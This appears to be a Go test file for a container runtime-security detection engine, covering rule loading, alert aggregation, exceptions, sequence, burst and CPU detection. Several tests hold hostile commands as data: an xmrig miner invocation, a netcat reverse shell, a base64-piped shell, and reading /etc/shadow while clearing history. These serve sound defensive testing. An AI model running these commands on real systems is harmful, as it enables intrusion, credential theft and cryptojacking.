package detect

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/cel-go/common/types"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/intel"
)

// loadRules loads the built-in rules plus one extra rules file.
func loadRules(t testing.TB, extra string) *Ruleset {
	t.Helper()
	var paths []string
	if extra != "" {
		p := filepath.Join(t.TempDir(), "extra.yaml")
		if err := os.WriteFile(p, []byte(extra), 0o600); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	rs, err := Load(Options{Paths: paths})
	if err != nil {
		t.Fatal(err)
	}
	return rs
}

// collector is an engine with a settable clock that records alerts.
type collector struct {
	e      *Engine
	now    time.Time
	alerts []*event.Alert
}

func newCollector(t testing.TB, rs *Ruleset, mod func(*Config)) *collector {
	c := &collector{now: testEpoch}
	cfg := Config{Rules: rs, Cluster: "c1", Node: "n1",
		Emit: func(a *event.Alert) { c.alerts = append(c.alerts, a) },
		Now:  func() time.Time { return c.now }}
	if mod != nil {
		mod(&cfg)
	}
	c.e = New(cfg)
	return c
}

func (c *collector) send(d time.Duration, e *event.Event) {
	c.now = c.now.Add(d)
	e.Time = c.now
	c.e.Process(e)
}

func (c *collector) of(rule string) []*event.Alert {
	var out []*event.Alert
	for _, a := range c.alerts {
		if a.Rule == rule {
			out = append(out, a)
		}
	}
	return out
}

func execIn(ctr string, pid uint32, exe string, args ...string) *event.Event {
	e := &event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: pid, Exe: exe, Args: args}}
	if ctr != "" {
		e.Container = &event.Container{ID: ctr, Namespace: "shop", Image: "nginx:1.27", Workload: "Deployment/shop/web", Labels: map[string]string{"app": "web"}}
	}
	return e
}

const testRules = `
rules:
  - id: test.curl
    title: curl ran
    description: test rule
    severity: low
    tactic: Execution
    kinds: [process.exec]
    condition: proc.name == "curl" && in_container
    evidence: [proc.cmdline]
    remediation: none
  - id: test.fetch-chmod-run
    title: fetch, chmod, run
    description: test sequence
    severity: high
    tactic: Execution
    sequence:
      within: 5m
      steps:
        - {name: fetch, kinds: [process.exec], condition: proc.name == "curl"}
        - {name: chmod, kinds: [file.chmod], condition: file.executable, key: file.path}
        - {name: run, kinds: [process.exec], key: proc.exe}
    remediation: none
  - id: test.recon-burst
    title: recon burst
    description: test burst
    severity: low
    tactic: Discovery
    kinds: [process.exec]
    condition: proc.name in ["id", "whoami", "uname", "hostname"]
    burst: {within: 1m, count: 3, distinct: proc.name}
    remediation: none
`

func TestAggregationCountsRepeats(t *testing.T) {
	c := newCollector(t, loadRules(t, testRules), func(cfg *Config) { cfg.UpdateInterval = time.Minute })
	for i := range 5 {
		c.send(time.Second, execIn("c1", uint32(100+i), "/usr/bin/curl", "curl", "-s", "http://x"))
	}
	c.send(time.Second, execIn("c2", 200, "/usr/bin/curl", "curl", "http://y"))
	got := c.of("test.curl")
	if len(got) != 2 {
		t.Fatalf("want one alert per container, got %d", len(got))
	}
	first := got[0]
	if first.Count != 1 || first.Evidence["proc.cmdline"] != "curl -s http://x" || first.Workload != "Deployment/shop/web" || first.Cluster != "c1" {
		t.Fatalf("first alert: %+v", first)
	}
	c.now = c.now.Add(time.Minute)
	c.e.Flush()
	up := c.of("test.curl")
	last := up[len(up)-1]
	if last.ID != first.ID || last.Count != 5 || !last.LastSeen.After(first.FirstSeen) {
		t.Fatalf("update: id %s count %d last %v, want id %s count 5", last.ID, last.Count, last.LastSeen, first.ID)
	}
	n := len(c.alerts)
	c.e.Flush()
	if len(c.alerts) != n {
		t.Fatal("a flush without new hits re-emitted alerts")
	}
	// After the aggregation window a new hit is a new alert.
	c.send(2*time.Hour, execIn("c1", 300, "/usr/bin/curl", "curl", "http://z"))
	if got := c.of("test.curl"); got[len(got)-1].ID == first.ID {
		t.Fatal("a hit after the aggregation window reused the old alert")
	}
}

func TestExceptions(t *testing.T) {
	future := testEpoch.Add(24 * time.Hour)
	for _, tc := range []struct {
		name string
		x    Exception
		want int
	}{
		{"namespace", Exception{ID: "x", Reason: "r", Namespace: "shop"}, 0},
		{"other namespace", Exception{ID: "x", Reason: "r", Namespace: "billing"}, 1},
		{"workload glob", Exception{ID: "x", Reason: "r", Workload: "Deployment/shop/*"}, 0},
		{"image glob", Exception{ID: "x", Reason: "r", Image: "nginx:*"}, 0},
		{"label", Exception{ID: "x", Reason: "r", Labels: map[string]string{"app": "web"}}, 0},
		{"label mismatch", Exception{ID: "x", Reason: "r", Labels: map[string]string{"app": "db"}}, 1},
		{"process path", Exception{ID: "x", Reason: "r", ProcessPath: "/usr/bin/*"}, 0},
		{"command line", Exception{ID: "x", Reason: "r", Cmdline: "curl -s http://internal/*"}, 0},
		{"command line mismatch", Exception{ID: "x", Reason: "r", Cmdline: "curl -s http://other/*"}, 1},
		{"rule scoped", Exception{ID: "x", Reason: "r", Rules: []string{"test.curl"}, Namespace: "shop"}, 0},
		{"other rule", Exception{ID: "x", Reason: "r", Rules: []string{"runtime.*"}, Namespace: "shop"}, 1},
		{"cluster", Exception{ID: "x", Reason: "r", Cluster: "c1"}, 0},
		{"expired", Exception{ID: "x", Reason: "r", Namespace: "shop", Expires: testEpoch.Add(-time.Hour)}, 1},
		{"not yet expired", Exception{ID: "x", Reason: "r", Namespace: "shop", Expires: future}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := tc.x.validate(); err != nil {
				t.Fatal(err)
			}
			c := newCollector(t, loadRules(t, testRules), func(cfg *Config) { cfg.Exceptions = []Exception{tc.x} })
			c.send(time.Second, execIn("c1", 100, "/usr/bin/curl", "curl", "-s", "http://internal/health"))
			if got := len(c.of("test.curl")); got != tc.want {
				t.Fatalf("got %d alerts, want %d", got, tc.want)
			}
		})
	}
	for _, bad := range []Exception{
		{ID: "", Reason: "r", Namespace: "x"},
		{ID: "x", Namespace: "x"},
		{ID: "x", Reason: "r"},
		{ID: "x", Reason: "r", Image: "[a"},
	} {
		if bad.validate() == nil {
			t.Errorf("exception %+v was accepted", bad)
		}
	}
}

func TestSequenceNeedsTheSameFile(t *testing.T) {
	chmod := func(ctr, path string) *event.Event {
		return &event.Event{Kind: event.FileChmod, Process: &event.Process{Pid: 10, Exe: "/bin/chmod"},
			Container: &event.Container{ID: ctr}, File: &event.File{Path: path, Op: "chmod", Mode: "0755"}}
	}
	t.Run("same file", func(t *testing.T) {
		c := newCollector(t, loadRules(t, testRules), nil)
		c.send(time.Second, execIn("c1", 1, "/usr/bin/curl", "curl", "-O", "http://x/miner"))
		c.send(time.Second, chmod("c1", "/tmp/miner"))
		c.send(time.Second, execIn("c1", 2, "/tmp/miner", "./miner"))
		got := c.of("test.fetch-chmod-run")
		if len(got) != 1 {
			t.Fatalf("got %d alerts", len(got))
		}
		if seq, _ := got[0].Evidence["sequence"].([]string); len(seq) != 3 || !strings.Contains(seq[1], "/tmp/miner") {
			t.Fatalf("sequence evidence: %v", got[0].Evidence)
		}
	})
	t.Run("another file", func(t *testing.T) {
		c := newCollector(t, loadRules(t, testRules), nil)
		c.send(time.Second, execIn("c1", 1, "/usr/bin/curl", "curl", "-O", "http://x/miner"))
		c.send(time.Second, chmod("c1", "/tmp/miner"))
		c.send(time.Second, execIn("c1", 2, "/usr/bin/ls", "ls"))
		if got := c.of("test.fetch-chmod-run"); len(got) != 0 {
			t.Fatalf("fired on a different file: %v", got[0].Evidence)
		}
	})
	t.Run("another container", func(t *testing.T) {
		c := newCollector(t, loadRules(t, testRules), nil)
		c.send(time.Second, execIn("c1", 1, "/usr/bin/curl", "curl", "-O", "http://x/miner"))
		c.send(time.Second, chmod("c2", "/tmp/miner"))
		c.send(time.Second, execIn("c2", 2, "/tmp/miner", "./miner"))
		if got := c.of("test.fetch-chmod-run"); len(got) != 0 {
			t.Fatal("steps in two containers made one sequence")
		}
	})
	t.Run("too slow", func(t *testing.T) {
		c := newCollector(t, loadRules(t, testRules), nil)
		c.send(time.Second, execIn("c1", 1, "/usr/bin/curl", "curl", "-O", "http://x/miner"))
		c.send(time.Second, chmod("c1", "/tmp/miner"))
		c.send(10*time.Minute, execIn("c1", 2, "/tmp/miner", "./miner"))
		if got := c.of("test.fetch-chmod-run"); len(got) != 0 {
			t.Fatal("a sequence longer than its window fired")
		}
	})
}

func TestBurstCountsDistinctCommands(t *testing.T) {
	c := newCollector(t, loadRules(t, testRules), nil)
	for range 5 {
		c.send(time.Second, execIn("c1", 1, "/usr/bin/id", "id"))
	}
	if len(c.of("test.recon-burst")) != 0 {
		t.Fatal("one command repeated counted as a burst")
	}
	c.send(time.Second, execIn("c1", 2, "/usr/bin/whoami", "whoami"))
	c.send(2*time.Minute, execIn("c1", 3, "/bin/uname", "uname", "-a"))
	if len(c.of("test.recon-burst")) != 0 {
		t.Fatal("commands outside the window counted")
	}
	c.send(time.Second, execIn("c1", 4, "/bin/hostname", "hostname"))
	c.send(time.Second, execIn("c1", 5, "/usr/bin/id", "id"))
	got := c.of("test.recon-burst")
	if len(got) != 1 {
		t.Fatalf("got %d burst alerts", len(got))
	}
	if members, _ := got[0].Evidence["burst"].([]string); len(members) != 3 {
		t.Fatalf("burst evidence %v", got[0].Evidence)
	}
}

// A process that burns CPU is caught by sampling /proc; one that sleeps
// is not. Real processes, real /proc.
func TestSustainedCPU(t *testing.T) {
	rules := `
rules:
  - id: test.busy
    title: busy
    description: test cpu
    severity: high
    tactic: Impact
    kinds: [process.exec]
    condition: proc.name == "busy"
    sustained_cpu: {cores: 0.2, for: 2s}
    remediation: none
`
	busy := exec.Command("/bin/sh", "-c", "while :; do :; done")
	idle := exec.Command("/bin/sleep", "30")
	for _, p := range []*exec.Cmd{busy, idle} {
		if err := p.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = p.Process.Kill(); _ = p.Wait() })
	}
	var alerts = make(chan *event.Alert, 4)
	e := New(Config{Rules: loadRules(t, rules), CPUInterval: 250 * time.Millisecond, UpdateInterval: time.Hour,
		Emit: func(a *event.Alert) { alerts <- a }})
	for _, p := range []*exec.Cmd{busy, idle} {
		e.Process(&event.Event{Kind: event.ProcessExec, Time: time.Now(),
			Process: &event.Process{Pid: uint32(p.Process.Pid), Exe: "/x/busy", Args: []string{"busy"}}})
	}
	if e.Stats().CPUWatched != 2 {
		t.Fatalf("watching %d processes, want 2", e.Stats().CPUWatched)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go func() { _ = e.Run(ctx) }()
	select {
	case a := <-alerts:
		if a.Process.Pid != uint32(busy.Process.Pid) {
			t.Fatalf("alert for pid %d, the busy one is %d", a.Process.Pid, busy.Process.Pid)
		}
		if cores, _ := a.Evidence["cpu_cores"].(float64); cores < 0.2 {
			t.Fatalf("evidence %v", a.Evidence)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("no alert for a process spinning a core")
	}
	select {
	case a := <-alerts:
		t.Fatalf("second alert: %+v", a.Process)
	case <-time.After(3 * time.Second):
	}
	// Exit forgets the process.
	e.Process(&event.Event{Kind: event.ProcessExit, Process: &event.Process{Pid: uint32(busy.Process.Pid)}})
	if e.Stats().CPUWatched != 1 {
		t.Fatalf("watching %d after exit", e.Stats().CPUWatched)
	}
}

// Block mode kills the drifted process for real; alert mode does not.
func TestDriftBlockKills(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Fatal("needs root to signal processes of other users in CI; run as root")
	}
	for _, tc := range []struct {
		action string
		killed bool
	}{{DriftBlock, true}, {DriftAlert, false}} {
		t.Run(tc.action, func(t *testing.T) {
			p := sleeper(t)
			var got []*event.Alert
			e := New(Config{Rules: loadRules(t, ""), Drift: DriftPolicy{Rules: []DriftRule{{Name: "prod", Action: tc.action, Namespace: "prod"}}},
				Emit: func(a *event.Alert) { got = append(got, a) }})
			e.Process(&event.Event{Kind: event.ProcessExec, Time: time.Now(),
				Process:   &event.Process{Pid: uint32(p.Process.Pid), Exe: "/tmp/sleep", Args: []string{"sleep", "30"}, Comm: "sleep", StartTime: procStart(t, p.Process.Pid), Drift: true},
				Container: &event.Container{ID: "c1", Namespace: "prod"}})
			if len(got) != 1 {
				t.Fatalf("%d alerts", len(got))
			}
			killed := killedBySIGKILL(p, 2*time.Second)
			if killed != tc.killed {
				t.Fatalf("killed by SIGKILL: %v in %s mode", killed, tc.action)
			}
			if killed && got[0].Action != "killed" {
				t.Fatalf("alert action %q", got[0].Action)
			}
		})
	}
}

func TestLoadErrors(t *testing.T) {
	base := "    title: t\n    description: d\n    severity: low\n    tactic: Execution\n    remediation: r\n"
	for _, tc := range []struct{ name, yaml, want string }{
		{"unknown key", "rules:\n  - id: x.a\n    condtion: true\n" + base + "    kinds: [process.exec]\n", "condtion"},
		{"bad severity", "rules:\n  - id: x.a\n    kinds: [process.exec]\n    title: t\n    description: d\n    severity: critical\n    tactic: T\n    remediation: r\n", "severity"},
		{"bad id", "rules:\n  - id: NoDot\n    kinds: [process.exec]\n" + base, "id:"},
		{"unknown field", "rules:\n  - id: x.a\n    kinds: [process.exec]\n    condition: proc.nmae == \"x\"\n" + base, "proc.nmae"},
		{"not bool", "rules:\n  - id: x.a\n    kinds: [process.exec]\n    condition: proc.name\n" + base, "want bool"},
		{"bad kind", "rules:\n  - id: x.a\n    kinds: [process.spawn]\n" + base, "process.spawn"},
		{"bad technique", "rules:\n  - id: x.a\n    kinds: [process.exec]\n    techniques: [X1]\n" + base, "technique"},
		{"bad evidence", "rules:\n  - id: x.a\n    kinds: [process.exec]\n    evidence: [proc.nope]\n" + base, "proc.nope"},
		{"macro cycle", "macros:\n  - {name: a_m, condition: b_m}\n  - {name: b_m, condition: a_m}\nrules:\n  - id: x.a\n    kinds: [process.exec]\n    condition: a_m\n" + base, "itself"},
		{"list cycle", "lists:\n  - {name: l_a, items: [l_b]}\n  - {name: l_b, items: [l_a]}\nrules:\n  - id: x.a\n    kinds: [process.exec]\n    condition: proc.name in l_a\n" + base, "itself"},
		{"two stateful forms", "rules:\n  - id: x.a\n    kinds: [process.exec]\n    drift: true\n    burst: {within: 1m, count: 2}\n" + base, "exclude"},
		{"short sequence", "rules:\n  - id: x.a\n    sequence: {within: 1m, steps: [{kinds: [process.exec]}]}\n" + base, "two steps"},
		{"bad step key", "rules:\n  - id: x.a\n    sequence: {within: 1m, steps: [{kinds: [process.exec], key: proc.pid}, {kinds: [process.exec]}]}\n" + base, "want string"},
		{"bad duration", "rules:\n  - id: x.a\n    kinds: [process.exec]\n    burst: {within: soon, count: 2}\n" + base, "soon"},
		{"exception without scope", "exceptions:\n  - {id: e1, reason: r}\n", "scope"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), "r.yaml")
			if err := os.WriteFile(p, []byte(tc.yaml), 0o600); err != nil {
				t.Fatal(err)
			}
			_, err := Load(Options{NoBuiltin: true, Paths: []string{p}})
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want one mentioning %q", err, tc.want)
			}
		})
	}
	if _, err := Load(Options{Disable: []string{"runtime.no-such-rule"}}); err == nil {
		t.Fatal("disabling an unknown rule was accepted")
	}
}

func TestDisableAndOverride(t *testing.T) {
	rs, err := Load(Options{Disable: []string{"runtime.drift-*"}})
	if err != nil {
		t.Fatal(err)
	}
	c := newCollector(t, rs, nil)
	c.send(time.Second, &event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: 1, Exe: "/tmp/x", Drift: true}, Container: &event.Container{ID: "c"}})
	if len(c.alerts) != 0 {
		t.Fatal("a disabled rule fired")
	}
	override := `
rules:
  - id: runtime.drift-binary-executed
    title: overridden
    description: d
    severity: low
    tactic: Execution
    kinds: [process.exec]
    drift: true
    condition: in_container && proc.drift && container.namespace != "dev"
    remediation: r
`
	c = newCollector(t, loadRules(t, override), nil)
	c.send(time.Second, &event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: 1, Exe: "/tmp/x", Drift: true}, Container: &event.Container{ID: "c", Namespace: "dev"}})
	c.send(time.Second, &event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: 2, Exe: "/tmp/x", Drift: true}, Container: &event.Container{ID: "d", Namespace: "prod"}})
	if len(c.alerts) != 1 || c.alerts[0].Title != "overridden" || c.alerts[0].Severity != event.Low {
		t.Fatalf("override not applied: %+v", c.alerts)
	}
}

// The native prefilter means exactly what CEL means: for every built-in
// rule and every fixture event, the engine's matcher and a plain CEL
// program of the same condition agree.
func TestPrefilterAgreesWithCEL(t *testing.T) {
	rs := loadRules(t, testRules)
	events := fixtureCaseEvents(t, "rules", func(TestCase) bool { return true })
	var ms []*matcher
	for _, r := range rs.rules {
		ms = append(ms, r.m)
		for _, s := range r.steps {
			ms = append(ms, s.m)
		}
	}
	checked := 0
	for _, m := range ms {
		ast, iss := rs.c.env.Compile(m.src)
		if iss.Err() != nil {
			t.Fatal(iss.Err())
		}
		prg, err := rs.c.env.Program(ast)
		if err != nil {
			t.Fatal(err)
		}
		for _, ev := range events {
			var v view
			v.reset(ev)
			out, _, err := prg.Eval(activation{&v})
			want := err == nil && out == types.True
			if got := m.match(&v); got != want {
				t.Errorf("%s on %s %v: engine says %v, CEL says %v (err %v)", m.src, ev.Kind, ev.Process, got, want, err)
			}
			checked++
		}
	}
	t.Logf("%d matchers x %d events = %d checks", len(ms), len(events), checked)
}

// `runc exec ID CMD` on the node carries the container command's argv; the
// command is judged in its container, not again as the host's runc.
func TestRuntimePassthroughIsNotAnAlert(t *testing.T) {
	c := newCollector(t, loadRules(t, ""), nil)
	for _, args := range [][]string{
		{"runc", "exec", "6f10ad43", "/tmp/xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.supportxmr.com:3333"},
		{"runc", "exec", "6f10ad43", "/bin/sh", "-c", "echo aWQ= | base64 -d | sh"},
		{"runc", "exec", "6f10ad43", "/bin/nc", "-e", "/bin/sh", "10.0.0.1", "4444"},
		{"runc", "exec", "6f10ad43", "/bin/sh", "-c", "cat /etc/shadow; history -c"},
	} {
		c.send(time.Second, &event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: 7, Exe: "/usr/sbin/runc", Args: args}})
	}
	for _, a := range c.alerts {
		t.Errorf("%s fired on the runtime's copy of a container command: %q", a.Rule, a.Process.Args)
	}
}

// Threat intelligence is updatable from a file: an address the team adds
// raises the malicious-IP rule, with no network access.
func TestIntelUpdateFile(t *testing.T) {
	p := filepath.Join(t.TempDir(), "intel.txt")
	if err := os.WriteFile(p, []byte("[malicious-ips]\n203.0.113.0/24\n[oast-domains]\ncanary.example-oast.net\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	in, err := intel.Default().WithFile(p)
	if err != nil {
		t.Fatal(err)
	}
	connect := &event.Event{Kind: event.NetworkConnect, Process: &event.Process{Pid: 9, Exe: "/usr/bin/python3", Args: []string{"python3", "app.py"}},
		Container: &event.Container{ID: "c1"}, Network: &event.Network{Protocol: "tcp", Family: "ipv4", Dst: "203.0.113.7:443"}}
	curl := &event.Event{Kind: event.ProcessExec, Process: &event.Process{Pid: 10, Exe: "/usr/bin/curl", Args: []string{"curl", "http://x1.canary.example-oast.net/"}},
		Container: &event.Container{ID: "c1"}}

	shipped := newCollector(t, loadRules(t, ""), nil)
	shipped.send(time.Second, connect)
	shipped.send(time.Second, curl)
	if len(shipped.alerts) != 0 {
		t.Fatalf("the shipped lists already know the test entries: %v", shipped.alerts[0].Rule)
	}
	rs, err := Load(Options{Intel: in})
	if err != nil {
		t.Fatal(err)
	}
	updated := newCollector(t, rs, nil)
	updated.send(time.Second, connect)
	updated.send(time.Second, curl)
	if len(updated.of("runtime.malicious-ip-connection")) != 1 || len(updated.of("runtime.oast-domain-in-cmdline")) != 1 {
		var got []string
		for _, a := range updated.alerts {
			got = append(got, a.Rule)
		}
		t.Fatalf("with the update file: %v", got)
	}
}

func TestImageNames(t *testing.T) {
	for _, c := range []struct {
		ref, name string
		want      bool
	}{
		{"registry.k8s.io/sig-storage/csi-provisioner:v5.0.1", "csi", true},
		{"public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver:v1.30", "csi", true},
		{"docker.io/calico/node:v3.28.0", "calico", true},
		{"docker:27-dind", "dind", true},
		{"docker.io/istio/proxyv2:1.22.1", "istio/proxyv2", true},
		{"vigil.dev/vigil:0.9@sha256:abcd", "vigil.dev/vigil", true},
		{"evil/csiminer:latest", "csi", false},
		{"evil/mycalico:1", "calico", false},
		{"ghcr.io/evil/vigil.dev/vigil:1", "vigil.dev/vigil", false},
		{"vigil.dev/vigilant:1", "vigil.dev/vigil", false},
		{"docker.io/istio/proxyv2x:1", "istio/proxyv2", false},
		{"anything", "", false},
	} {
		if got := imageNames(c.ref, c.name); got != c.want {
			t.Errorf("imageNames(%q, %q) = %v, want %v", c.ref, c.name, got, c.want)
		}
	}
}
